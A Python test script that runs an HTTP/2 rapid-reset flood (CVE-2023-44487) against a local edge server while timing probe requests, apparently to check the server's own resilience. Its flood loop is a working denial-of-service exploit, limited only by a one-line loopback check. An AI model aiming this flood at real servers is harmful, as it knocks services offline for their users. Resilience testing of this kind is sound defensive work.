#!/usr/bin/python3
"""h2flood.py: an HTTP/2 rapid-reset flood (CVE-2023-44487) against the edge,
with real probes beside it. For testing our own edge on loopback only.

  h2flood.py --port 8443 [--conns 8] [--streams 20000] [--seconds 20]
             [--path /healthz] [--probes 16] [--probe-path /healthz]

Each of --conns TLS connections (from --flood-source, 127.0.0.2) (ALPN h2) sends HEADERS for a new stream and
at once RST_STREAM(CANCEL), --streams times (or until --seconds). Beside them,
--probes real requests (HTTP/1.1 over TLS, one every seconds/probes) must be
answered. Prints one JSON line: streams sent, probe statuses, latencies.
Needs python3-h2 (Debian). Refuses any host but loopback.
"""
import argparse
import http.client
import json
import socket
import ssl
import sys
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions


def tls_ctx(alpn):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    if alpn:
        ctx.set_alpn_protocols(alpn)
    return ctx


def flood_one(host, port, path, streams, deadline, out, idx, source):
    sent = 0
    err = None
    try:
        raw = socket.create_connection((host, port), timeout=10,
                                       source_address=(source, 0) if source else None)
        s = tls_ctx(["h2"]).wrap_socket(raw, server_hostname="localhost")
        if s.selected_alpn_protocol() != "h2":
            raise RuntimeError("no h2 ALPN")
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True,
                                                                     header_encoding="utf-8"))
        conn.initiate_connection()
        s.sendall(conn.data_to_send())
        s.setblocking(False)
        headers = [(":method", "GET"), (":path", path), (":scheme", "https"),
                   (":authority", f"localhost:{port}"), ("user-agent", "h2flood")]
        while sent < streams and time.monotonic() < deadline:
            for _ in range(50):  # a burst, then read what came back
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid, error_code=8)  # CANCEL
                sent += 1
            data = conn.data_to_send()
            view = memoryview(data)
            while view:
                try:
                    n = s.send(view)
                    view = view[n:]
                except (ssl.SSLWantWriteError, BlockingIOError):
                    time.sleep(0.001)
            try:
                while True:
                    b = s.recv(65536)
                    if not b:
                        raise RuntimeError("closed by the edge")
                    for ev in conn.receive_data(b):
                        if isinstance(ev, h2.events.ConnectionTerminated):
                            raise RuntimeError(f"GOAWAY {ev.error_code}")
                    pending = conn.data_to_send()
                    if pending:
                        s.setblocking(True)
                        s.sendall(pending)
                        s.setblocking(False)
            except (ssl.SSLWantReadError, BlockingIOError):
                pass
        s.close()
    except (OSError, RuntimeError, h2.exceptions.ProtocolError) as e:
        err = f"{type(e).__name__}: {e}"
    out[idx] = {"sent": sent, "error": err}


def probe(host, port, path):
    t = time.monotonic()
    try:
        c = http.client.HTTPSConnection(host, port, timeout=10, context=tls_ctx(None))
        c.request("GET", path, headers={"Host": f"localhost:{port}"})
        r = c.getresponse()
        r.read()
        c.close()
        st = r.status
    except OSError as e:
        st = f"{type(e).__name__}"
    return st, round((time.monotonic() - t) * 1000, 1)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--conns", type=int, default=8)
    ap.add_argument("--streams", type=int, default=20000)
    ap.add_argument("--seconds", type=float, default=20)
    ap.add_argument("--path", default="/healthz")
    ap.add_argument("--probes", type=int, default=16)
    ap.add_argument("--probe-path", default="/healthz")
    ap.add_argument("--flood-source", default="127.0.0.2",
                    help="source address of the flood (the probes come from 127.0.0.1, as "
                         "another user would; '' = the default)")
    a = ap.parse_args()
    if a.host not in ("127.0.0.1", "::1", "localhost"):
        sys.exit("h2flood: loopback only")
    deadline = time.monotonic() + a.seconds
    results = [None] * a.conns
    threads = [threading.Thread(target=flood_one, args=(a.host, a.port, a.path, a.streams,
                                                        deadline, results, i,
                                                        a.flood_source))
               for i in range(a.conns)]
    t0 = time.monotonic()
    for t in threads:
        t.start()
    probes = []
    gap = min(a.seconds / max(a.probes, 1), 0.4)
    for i in range(a.probes):
        time.sleep(max(0.0, t0 + 0.5 + i * gap * 0.8 - time.monotonic()))
        if not any(t.is_alive() for t in threads):
            break
        probes.append(probe(a.host, a.port, a.probe_path))
    for t in threads:
        t.join()
    took = time.monotonic() - t0
    sent = sum(r["sent"] for r in results if r)
    print(json.dumps({"seconds": round(took, 1), "streams_sent": sent,
                      "conns": a.conns,
                      "streams_per_s": round(sent / took) if took else 0,
                      "flood_errors": [r["error"] for r in results if r and r["error"]],
                      "probes": [p[0] for p in probes],
                      "probe_ms": [p[1] for p in probes]}))


if __name__ == "__main__":
    main()
